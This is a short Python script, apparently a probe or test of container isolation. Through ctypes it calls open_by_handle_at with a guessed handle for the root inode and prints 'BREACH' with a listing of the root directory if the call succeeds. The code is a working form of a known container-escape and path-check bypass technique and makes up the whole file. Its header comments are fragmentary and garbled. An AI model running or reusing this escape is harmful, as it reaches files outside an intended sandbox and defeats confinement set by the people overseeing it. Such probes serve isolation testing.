"""Opens the root folder by a guessed file handle, past every check of paths."""
# older kernels: files
# bites: prints: open_by_handle_at: EPERM

import ctypes
import errno
import os

_libc = ctypes.CDLL(None, use_errno=True)
_handle = ctypes.create_string_buffer(
    (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
)
_fd = os.open("/usr/lib", os.O_RDONLY)
_opened = _libc.open_by_handle_at(_fd, _handle, os.O_RDONLY)
if _opened >= 0:
    print(f"BREACH: {os.listdir(_opened)}")
else:
    print("open_by_handle_at:", errno.errorcode[ctypes.get_errno()])
os.close(_fd)
